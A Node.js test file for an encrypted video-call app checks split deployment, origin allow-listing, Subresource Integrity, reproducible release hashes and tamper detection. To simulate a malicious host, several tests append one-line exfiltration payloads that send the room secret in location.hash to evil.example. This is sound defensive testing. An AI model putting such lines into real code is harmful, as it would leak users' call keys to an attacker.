// Who serves the code (issue 14 item 2, SECURITY.md "Who must be trusted for what").
//
// 1. Separate deployment: the signaling worker as wrangler.toml deploys it (no assets) serves
//    no page; the page, built by scripts/build-www.mjs --signaling-url, comes from a plain
//    static server on another loopback origin; two participants still get an encrypted call,
//    and the worker lets in only the origins ALLOWED_ORIGINS lists (WebSocket and, through
//    CORS, /api/turn-credentials).
// 2. scripts/verify-deployment.mjs: equal against the local worker serving the local build
//    and against that static origin, both against a local build and against the release's
//    SHA256SUMS (scripts/build-hashes.mjs); a recording proxy that alters one served file
//    (app.js, pkg/sotto.js or one byte of a wasm module) is reported, naming the file, with a
//    non-zero exit.
// 3. Subresource Integrity in the deployable page: a static host that changes app.js,
//    pkg/sotto.js or the vendored QR code module (vendor/lean-qr-nano.js, imported by app.js,
//    named by no <script src>) but not index.html gets its code refused by the browser itself.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { buildWww } from '../scripts/build-www.mjs';
import { buildRelease } from '../scripts/build-hashes.mjs';
import { startWorker } from './lib/worker.mjs';
import { startRecordingProxy } from './lib/proxy.mjs';
import { startStaticServer } from './lib/static.mjs';
import { freePort } from './lib/ports.mjs';
import { launchChromium, openParticipant, waitInPage } from './lib/browser.mjs';
import { dumpOnFailure, firstRemote, mediaStats } from './lib/probes.mjs';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const tmp = mkdtempSync(path.join(tmpdir(), 'sotto-deployment-'));
const sameOriginDist = path.join(tmp, 'same-origin');
// One copy of the package for the whole run: other builds may rewrite client-wasm/pkg meanwhile.
const packageDir = path.join(tmp, 'pkg');
const releaseDir = path.join(tmp, 'release');
const splitDist = path.join(releaseDir, 'www'); // the release's page, built for the split deployment
let sameOriginFiles; // the files of the single-origin build

let pageWorker; // the worker serving the locally built page itself (--assets)
let apiWorker; // the worker as wrangler.toml deploys it: no assets
let staticHost; // the page's own origin, listed in the API worker's ALLOWED_ORIGINS
let strangerHost; // the same page from an origin the worker does not list
let browser;

/** Runs verify-deployment.mjs against `url` (with `args`); resolves `{ code, out }`. */
function verify(url, ...args) {
  return new Promise((resolve) => {
    execFile(process.execPath, [path.join(root, 'scripts/verify-deployment.mjs'), url, '--package', packageDir, ...args], { cwd: root, timeout: 60_000 }, (error, stdout, stderr) => {
      resolve({ code: error ? error.code : 0, out: `${stdout}${stderr}` });
    });
  });
}

const linesOf = (out, kind) => out.split('\n').filter((l) => l.startsWith(kind));

before(async () => {
  cpSync(path.join(root, 'client-wasm/pkg'), packageDir, { recursive: true });
  sameOriginFiles = buildWww({ out: sameOriginDist, packageDir });
  const workerPort = await freePort();
  const staticPort = await freePort();
  buildRelease({ out: releaseDir, signalingUrl: `ws://127.0.0.1:${workerPort}`, packageDir });
  staticHost = await startStaticServer({ root: splitDist, port: staticPort });
  strangerHost = await startStaticServer({ root: splitDist });
  pageWorker = await startWorker({ assets: sameOriginDist });
  apiWorker = await startWorker({
    port: workerPort,
    assets: null,
    vars: { ALLOWED_ORIGINS: staticHost.origin, TURN_URLS: 'turn:127.0.0.1:3478?transport=udp', TURN_SECRET: 'deployment-test-secret' },
  });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await apiWorker?.stop();
  await pageWorker?.stop();
  await staticHost?.stop();
  await strangerHost?.stop();
  rmSync(tmp, { recursive: true, force: true });
});

test('the worker without assets serves no page: every file of the page is a 404', async () => {
  for (const file of ['', 'index.html', 'app.js', 'app.css', 'pkg/sotto.js', 'pkg/sotto-worker.js', 'pkg/sotto_client_wasm_bg.wasm']) {
    const r = await fetch(`${apiWorker.origin}/${file}`);
    assert.equal(r.status, 404, `/${file}`);
    assert.equal((await r.json()).code, 'not-found', `/${file}`);
  }
  // The same build served by the worker itself (the single-origin way) is there.
  assert.equal((await fetch(`${pageWorker.origin}/app.js`)).status, 200);
});

test('a page on another origin runs an encrypted call through the assets-less worker', async () => {
  const a = await openParticipant(browser, `${staticHost.origin}/`, { label: 'A' });
  const b = await openParticipant(browser, a.page.url(), { label: 'B' });
  await dumpOnFailure([a, b], async () => {
    for (const p of [a, b]) {
      assert.equal(await p.page.evaluate(() => document.querySelector('#error:not([hidden])')?.textContent ?? null), null, `${p.label} joined`);
      const meta = await p.page.evaluate(() => document.querySelector('meta[name="sotto-signaling-url"]').content);
      assert.equal(meta, apiWorker.origin.replace('http', 'ws'));
    }
    for (const p of [a, b]) {
      const stats = await waitInPage(p.page, mediaStats, (s) => firstRemote(s).framesDecoded >= 20, { timeoutMs: 30_000 });
      assert.ok(firstRemote(stats).framesDecoded >= 20, `${p.label} decoded remote video: ${JSON.stringify(stats)}`);
      const crypto = await p.page.evaluate(() => window.sotto.call.cryptoStats());
      assert.ok(crypto.frames.decrypt.video > 0 && crypto.frames.encrypt.video > 0, `${p.label}: frames went through SFrame`);
    }
    // The page asked its own origin for files only; the call went to the worker.
    assert.ok(staticHost.requests.includes('/pkg/sotto_client_wasm_bg.wasm'));
    assert.ok(!staticHost.requests.some((r) => r.startsWith('/ws/') || r.startsWith('/api/')), staticHost.requests.join(' '));
    // TURN credentials across origins: readable thanks to CORS for the listed origin (and
    // allowed by the page's CSP, which build-www.mjs extended with the worker's origin).
    const creds = await a.page.evaluate(async (url) => {
      const r = await fetch(`${url}/api/turn-credentials`, { method: 'POST' });
      return { status: r.status, body: await r.json() };
    }, apiWorker.origin);
    assert.equal(creds.status, 200);
    assert.deepEqual(creds.body.urls, ['turn:127.0.0.1:3478?transport=udp']);
    assert.deepEqual([...a.console, ...b.console].filter((l) => /Content Security Policy|Refused to/i.test(l)), [], 'no CSP violation');
  });
  await a.context.close();
  await b.context.close();
});

test('the same page from an origin ALLOWED_ORIGINS does not list is refused', async () => {
  const p = await openParticipant(browser, `${strangerHost.origin}/`, { label: 'stranger' });
  try {
    const shown = await waitInPage(p.page, () => document.querySelector('#error:not([hidden])')?.dataset.code ?? null, (code) => code !== null, { timeoutMs: 20_000 });
    assert.equal(shown, 'origin-not-allowed', p.console.join('\n'));
    // Its credential request gets no CORS answer: the browser does not let the page read it.
    const outcome = await p.page.evaluate(async (url) => {
      try {
        const r = await fetch(`${url}/api/turn-credentials`, { method: 'POST' });
        return `status ${r.status}`;
      } catch (error) {
        return `blocked: ${error.name}`;
      }
    }, apiWorker.origin);
    assert.equal(outcome, 'blocked: TypeError');
  } finally {
    await p.context.close();
  }
});

test('Subresource Integrity: the browser refuses app.js, pkg/sotto.js or the vendored QR module a server changed behind an unchanged page', async () => {
  const html = readFileSync(path.join(splitDist, 'index.html'), 'utf8');
  assert.match(html, /<script type="importmap">\{"integrity":\{[^<]*"\.\/pkg\/sotto\.js":"sha384-/);
  assert.match(html, /<script type="importmap">\{"integrity":\{[^<]*"\.\/vendor\/lean-qr-nano\.js":"sha384-/);
  assert.match(html, /<script type="module" src="app\.js" integrity="sha384-[A-Za-z0-9+/=]{64}"><\/script>/);
  // The app fills in the room link as soon as its modules run.
  const started = async (origin, label) => {
    const p = await openParticipant(browser, `${origin}/`, { label, join: false });
    try {
      const link = await waitInPage(p.page, () => document.querySelector('#room-link').value, (v) => v !== '', { timeoutMs: 5_000 });
      return { ran: link !== '', console: p.console };
    } finally {
      await p.context.close();
    }
  };
  const control = await started(staticHost.origin, 'intact');
  assert.ok(control.ran, `the intact page runs: ${control.console.join('\n')}`);
  assert.deepEqual(control.console.filter((l) => /integrity|Content Security Policy/i.test(l)), []);
  for (const file of ['pkg/sotto.js', 'app.js', 'vendor/lean-qr-nano.js']) {
    const altered = path.join(tmp, `sri-${path.basename(file)}`);
    cpSync(splitDist, altered, { recursive: true });
    writeFileSync(path.join(altered, file), `${readFileSync(path.join(altered, file), 'utf8')}\nfetch('https://evil.example/', { method: 'POST', body: location.hash });\n`);
    const host = await startStaticServer({ root: altered });
    try {
      const result = await started(host.origin, `altered ${file}`);
      assert.equal(result.ran, false, `the page ran with an altered ${file}`);
      assert.ok(host.requests.includes(`/${file}`), host.requests.join(' '));
      assert.ok(result.console.some((l) => /integrity/i.test(l) && l.includes(path.basename(file))), `the browser names ${file}:\n${result.console.join('\n')}`);
    } finally {
      await host.stop();
    }
  }
});

test('build-hashes: two release builds (different folders, same inputs) give the same SHA256SUMS', () => {
  // The assembly stage (page, npm files, npm pack tarball); the wasm compile itself is
  // measured apart (two builds from two checkouts: the project note).
  const again = buildRelease({ out: path.join(tmp, 'release-again'), signalingUrl: readFileSync(path.join(splitDist, 'index.html'), 'utf8').match(/name="sotto-signaling-url" content="([^"]+)"/)[1], packageDir });
  const first = readFileSync(path.join(releaseDir, 'SHA256SUMS'), 'utf8');
  assert.ok(first.includes('  www/index.html\n') && /[0-9a-f]{64}  sotto-client-[^/]+\.tgz\n/.test(first), first);
  assert.equal(again.manifest, first);
  // A different signaling URL changes index.html and embed.html only.
  const other = buildRelease({ out: path.join(tmp, 'release-other'), signalingUrl: 'wss://signal.example', packageDir });
  const differing = other.manifest.split('\n').filter((l) => !first.split('\n').includes(l)).map((l) => l.split('  ')[1]);
  assert.deepEqual(differing, ['www/embed.html', 'www/index.html']);
});

test('verify-deployment: the local worker serving the local build is equal, file by file', async () => {
  const { code, out } = await verify(`${pageWorker.origin}/`);
  assert.equal(code, 0, out);
  assert.deepEqual(linesOf(out, 'MISMATCH').concat(linesOf(out, 'MISSING')), [], out);
  // index.html twice (as / and by name), then every other file of the build.
  const files = ['index.html', 'app.js', 'app.css', 'pkg/sotto.js', 'pkg/sotto-worker.js', 'pkg/sotto_call_wasm.js', 'pkg/sotto_call_wasm_bg.wasm', 'pkg/sotto_client_wasm.js', 'pkg/sotto_client_wasm_bg.wasm'];
  for (const file of files) assert.ok(sameOriginFiles.includes(file), `${file} is in the build`);
  assert.equal(linesOf(out, 'ok').length, sameOriginFiles.length + 1, out);
  for (const file of files) assert.ok(linesOf(out, 'ok').some((l) => l.endsWith(`  ${file}`)), `${file} checked:\n${out}`);
  assert.match(out, /signaling the page's own origin/);
});

test('verify-deployment: the split deployment (page on a static host, worker elsewhere) is equal', async () => {
  const { code, out } = await verify(`${staticHost.origin}/`);
  assert.equal(code, 0, out);
  assert.match(out, new RegExp(`signaling ${apiWorker.origin.replace('http', 'ws')} `));
});

test('verify-deployment --sums: the static host serves exactly the files the release SHA256SUMS lists', async () => {
  const sums = readFileSync(path.join(releaseDir, 'SHA256SUMS'), 'utf8');
  const wwwLines = sums.split('\n').filter((l) => l.includes('  www/'));
  assert.ok(wwwLines.length >= 9, sums);
  const { code, out } = await verify(`${staticHost.origin}/`, '--sums', path.join(releaseDir, 'SHA256SUMS'));
  assert.equal(code, 0, out);
  assert.equal(linesOf(out, 'ok').length, wwwLines.length + 1, out);
  for (const line of wwwLines) {
    const [hash, file] = line.split('  ');
    assert.ok(linesOf(out, 'ok').includes(`ok        ${hash}  ${file.slice(4)}`), `${file}:\n${out}`);
  }
  // The SHA256SUMS published next to the page (an URL works as well as a file).
  const published = await startStaticServer({ root: releaseDir });
  try {
    const again = await verify(`${staticHost.origin}/`, `--sums=${published.origin}/SHA256SUMS`);
    assert.equal(again.code, 0, again.out);
  } finally {
    await published.stop();
  }
});

test('verify-deployment --sums: a server that changes pkg/sotto.js is caught, the file named', async () => {
  const altered = path.join(tmp, 'altered-release');
  cpSync(splitDist, altered, { recursive: true });
  // A one-line change a malicious server could make: the client posts the room secret away.
  const file = path.join(altered, 'pkg/sotto.js');
  writeFileSync(file, `${readFileSync(file, 'utf8')}\nfetch('https://evil.example/', { method: 'POST', body: location.hash });\n`);
  const host = await startStaticServer({ root: altered });
  try {
    const { code, out } = await verify(`${host.origin}/`, '--sums', path.join(releaseDir, 'SHA256SUMS'));
    assert.equal(code, 1, out);
    const mismatches = linesOf(out, 'MISMATCH');
    assert.equal(mismatches.length, 1, out);
    const want = readFileSync(path.join(releaseDir, 'SHA256SUMS'), 'utf8').split('\n').find((l) => l.endsWith('  www/pkg/sotto.js')).split('  ')[0];
    assert.match(mismatches[0], new RegExp(`^MISMATCH  pkg/sotto\\.js: served [0-9a-f]{64} \\(\\d+ bytes\\), published ${want}$`));
    assert.match(out, /does NOT serve this build/);
    assert.ok(host.requests.includes('/pkg/sotto.js'));
  } finally {
    await host.stop();
  }
  // A SHA256SUMS that is not one is refused, not read as "nothing to check".
  const { code, out } = await verify(`${staticHost.origin}/`, '--sums', path.join(releaseDir, 'www/app.js'));
  assert.equal(code, 1, out);
  assert.match(out, /SHA256SUMS line 1 is not/);
});

test('verify-deployment: a proxy that alters app.js or one byte of a wasm module is reported', async () => {
  for (const [file, alter] of [
    // The attack of the issue: a served app.js that reads the room secret from the fragment.
    ['app.js', (bytes) => Buffer.from(`${bytes}\nnew Image().src = 'https://evil.example/?' + location.hash.slice(1);\n`)],
    ['pkg/sotto_client_wasm_bg.wasm', (bytes) => { const copy = Buffer.from(bytes); copy[copy.length >> 1] ^= 1; return copy; }],
  ]) {
    const altered = path.join(tmp, `altered-${path.basename(file)}`);
    cpSync(sameOriginDist, altered, { recursive: true });
    writeFileSync(path.join(altered, file), alter(readFileSync(path.join(altered, file))));
    const proxy = await startRecordingProxy({ upstream: pageWorker.origin, staticRoot: altered });
    try {
      const { code, out } = await verify(`${proxy.origin}/`);
      assert.equal(code, 1, out);
      const mismatches = linesOf(out, 'MISMATCH');
      assert.equal(mismatches.length, 1, out);
      assert.match(mismatches[0], new RegExp(`^MISMATCH  ${file.replace(/\./g, '\\.')}: served [0-9a-f]{64} \\(\\d+ bytes\\), local build [0-9a-f]{64}`));
      if (file === 'app.js') assert.match(mismatches[0], /first difference at line \d+: served .*location\.hash/);
      assert.match(out, /does NOT serve this build/);
      // Everything else was still fetched and found equal.
      assert.equal(linesOf(out, 'ok').length, sameOriginFiles.length, out);
      const fetched = proxy.record.requests.map((r) => r.url);
      assert.ok(fetched.includes(`/${file}`) && fetched.includes('/'), fetched.join(' '));
    } finally {
      await proxy.stop();
    }
  }
});
